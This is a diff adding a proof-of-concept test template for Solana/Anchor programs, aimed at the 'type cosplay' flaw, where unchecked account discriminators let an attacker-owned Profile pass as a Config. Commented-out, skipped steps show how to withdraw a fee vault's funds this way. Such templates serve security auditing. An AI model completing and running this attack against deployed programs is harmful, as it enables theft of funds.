@@ -0,0 +1,44 @@
+// PoC Template: Type Cosplay (Anchor TypeScript test)
+// Vulnerability: Account data is parsed as a type without checking its discriminator
+// Chain: Solana/Anchor, run with `anchor test`
+//
+// The attacker passes a Profile they own where a Config is expected; see
+// type_cosplay.rs for the vulnerable pattern and the fix.
+
+import * as anchor from "@coral-xyz/anchor";
+import { BN, Program } from "@coral-xyz/anchor";
+import { Keypair, LAMPORTS_PER_SOL, PublicKey } from "@solana/web3.js";
+import { assert } from "chai";
+
+// ============================================================
+// EXPLOIT TEST (Mocha)
+// ============================================================
+describe("type_cosplay exploit", () => {
+  const provider = anchor.AnchorProvider.env();
+  anchor.setProvider(provider);
+  const program = anchor.workspace.{{PROGRAM_NAME=my_program|camel}} as Program;
+  const attacker = Keypair.generate();
+
+  before(async () => {
+    assert.ok(program.programId.equals(new PublicKey("{{PROGRAM_ID}}")), "workspace program is not the target");
+    const signature = await provider.connection.requestAirdrop(attacker.publicKey, 10 * LAMPORTS_PER_SOL);
+    await provider.connection.confirmTransaction({ signature, ...(await provider.connection.getLatestBlockhash()) });
+  });
+
+  // Drop .skip once the steps below are filled in
+  it.skip("accepts a Profile as the Config", async () => {
+    // 1. The fee vault the real config guards
+    // const vault = new PublicKey("{{VAULT_ACCOUNT}}");
+
+    // 2. Create a Profile through the program; its owner field sits where Config.admin is
+    // const profile = await createProfile(program, attacker);  // owner = attacker
+
+    // 3. Pass the profile as the config; should fail with a discriminator mismatch
+    // await program.methods
+    //   .withdrawFees()
+    //   .accounts({ config: profile, admin: attacker.publicKey, vault })
+    //   .signers([attacker])
+    //   .rpc();
+    // assert.equal(await provider.connection.getBalance(vault), 0, "Exploit: Profile accepted as Config");
+  });
+});